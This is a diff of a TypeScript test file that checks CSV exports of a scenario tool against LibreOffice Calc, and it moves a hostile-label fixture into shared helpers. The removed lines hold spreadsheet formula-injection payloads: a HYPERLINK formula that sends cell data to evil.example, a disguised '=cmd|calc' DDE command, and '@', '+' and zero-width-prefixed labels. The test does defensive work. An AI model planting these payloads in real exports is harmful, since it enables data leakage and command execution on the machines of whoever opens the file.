@@ -11,79 +11,21 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { csvTable } from '../../models/text/csv';
 import { cli } from '../cli/cliHarness';
+import { cells } from '../hostile/csvCells';
+import { hostileLabelScenario, PAYLOAD } from '../hostile/hostileLabelScenario';
 import { readFods, type FodsCell } from './readFods';
 
 /** Calc's CSV import options: comma, ", UTF-8, from line 1, default formats, en-US, quoted fields NOT forced to
  * text, detect special numbers (dates, times, percentages), …, evaluate formulas. */
 const INFILTER = 'CSV:44,34,76,1,,1033,false,true,false,false,false,false,true';
 
-const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 let dir = '';
 const csvFiles: string[] = [];
-
-/** RFC 4180 cells of our own CSV text. */
-const csvCells = (text: string): string[][] => {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i] as string;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      i++;
-    } else cell += c;
-  }
-  return rows;
-};
 
 const PLAIN_NUMBER = /^-?(?:\d+(?:\.\d+)?|\.\d+)(?:e[+-]?\d+)?$/i;
 const FRACTION = /^-?\d+ \/ \d+$/;
 
-const hostileScenario = {
-  format: 'parley.scenario/1',
-  id: 'hostile',
-  title: 'Hostile labels',
-  parameters: {
-    a: { label: '\uff1dcmd|calc', default: 2, min: 0, max: 4, uncertainty: '1 to 3' },
-    b: { label: ' =1+1', default: 1, min: 0, max: 2, uncertainty: '0.5 to 1.5' },
-  },
-  actors: [
-    {
-      id: 'P',
-      name: '@SUM(1)',
-      strategies: [
-        { id: 'up', label: '+1+1' },
-        { id: 'down', label: '\u200b-2+3' },
-      ],
-      payoffs: { up: 'a * Q.left', down: 'b' },
-    },
-    {
-      id: 'Q',
-      name: '\tQ',
-      strategies: [
-        { id: 'left', label: 'Left, "quoted"' },
-        { id: 'right', label: 'two\nlines' },
-      ],
-      payoffs: { left: 'P.up', right: 'P.down' },
-    },
-  ],
-  outcomes: { coord: { label: PAYLOAD, when: 'P.up and Q.left' } },
-  metrics: { pay: { label: '\ufe66x', value: 'a + b' } },
-};
+const hostileScenario = hostileLabelScenario('Hostile labels', ['Left, "quoted"', 'two\nlines']);
 
 const exportAll = async (): Promise<void> => {
   writeFileSync(join(dir, 'hostile.parley.json'), JSON.stringify(hostileScenario));
@@ -237,7 +179,7 @@ beforeAll(async () => {
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
 const sheetOf = (csv: string): { source: string[][]; sheet: FodsCell[][] } => ({
-  source: csvCells(readFileSync(join(dir, csv), 'utf8')),
+  source: cells(readFileSync(join(dir, csv), 'utf8')),
   sheet: readFods(readFileSync(join(dir, 'fods', csv.replace(/\.csv$/, '.fods')), 'utf8')),
 });
 
